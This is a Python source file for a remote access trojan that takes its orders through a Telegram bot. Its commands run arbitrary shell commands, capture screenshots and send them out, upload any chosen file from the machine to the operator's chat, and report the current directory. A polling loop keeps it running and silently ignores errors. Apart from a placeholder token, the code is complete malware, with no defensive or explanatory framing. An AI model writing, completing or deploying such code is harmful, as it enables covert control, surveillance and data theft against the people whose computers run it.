import io
import os
import subprocess
import time

import requests

TOKEN = "0000000000:FAKE-fake-token"
BASE = "https://api.telegram.org/bot" + TOKEN + "/"
OWNER = 0


class Agent:
    def __init__(self):
        self.offset = 0

    def reply(self, text):
        requests.post(BASE + "sendMessage", data={"chat_id": OWNER, "text": text[:4000]})

    def screenshot(self):
        from PIL import ImageGrab

        buffer = io.BytesIO()
        ImageGrab.grab().save(buffer, "PNG")
        buffer.seek(0)
        requests.post(BASE + "sendPhoto", data={"chat_id": OWNER}, files={"photo": buffer})

    def handle(self, text):
        if text.startswith("/shell "):
            self.reply(subprocess.getoutput(text[7:]))
        elif text == "/screen":
            self.screenshot()
        elif text.startswith("/get "):
            requests.post(BASE + "sendDocument", data={"chat_id": OWNER}, files={"document": open(text[5:], "rb")})
        elif text == "/where":
            self.reply(os.getcwd())

    def run(self):
        while True:
            try:
                updates = requests.get(BASE + "getUpdates", params={"offset": self.offset, "timeout": 30}).json()
                for update in updates.get("result", []):
                    self.offset = update["update_id"] + 1
                    self.handle(update.get("message", {}).get("text", ""))
            except Exception:
                time.sleep(15)
